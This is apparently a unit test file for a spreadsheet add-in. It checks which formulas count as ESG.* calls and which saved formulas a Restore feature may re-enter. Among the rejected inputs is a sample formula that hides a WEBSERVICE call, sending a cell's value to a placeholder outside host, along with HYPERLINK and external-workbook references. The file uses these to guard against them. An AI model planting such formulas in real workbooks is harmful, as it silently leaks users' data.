/** Which formulas count as ESG.* cells, and which kept formulas Restore may enter. */
import { callsEsg } from '../../src/travel';
import { isRestorable } from '../../src/travel/esg';

describe('callsEsg', () => {
  it.each([
    ['=ESG.GRANT(1,2,3,4)', true],
    ['=esg.dsg.block(A1)', true],
    ['=SUM(ESG.PROJECT(A1,B1,C1,D1,"2015-16",3,1))', true],
    ['=ESG.GRANT (1,2,3,4)', true],
    ['="ESG.GRANT(1)"', false],
    ['=MYESG.GRANT(1)', false],
    ['=ESG_Total*2', false],
    ['ESG.GRANT(1)', false],
    ['=Sheet1!ESG.X', false],
  ])('%s → %s', (formula, expected) => {
    expect(callsEsg(formula)).toBe(expected);
  });
});

describe('isRestorable', () => {
  it.each([
    ['=ESG.GRANT(1,2,3,4)', true],
    ['=ESG.GRANT(1,2,3,4)&" see HYPERLINK(x)"', true],
    ['=ESG.GRANT(1,2,3,4)+WEBSERVICE("https://example.invalid/"&A1)*0', false],
    ['=ESG.GRANT(1,2,3,4)&HYPERLINK("https://example.invalid")', false],
    ['=ESG.GRANT([Other.xlsx]Inputs!B2,0,0,0)', false],
    ["=ESG.GRANT('C:\\x\\[Other.xlsx]Inputs'!B2,0,0,0)", false],
    ['=ESG.GRANT([1]Inputs!B2,0,0,0)', false],
    ['=ESG.GRANT(ESG_Inputs[Value],0,0,0)', true],
    ['=WEBSERVICE("x")', false],
  ])('%s → %s', (formula, expected) => {
    expect(isRestorable(formula)).toBe(expected);
  });
});
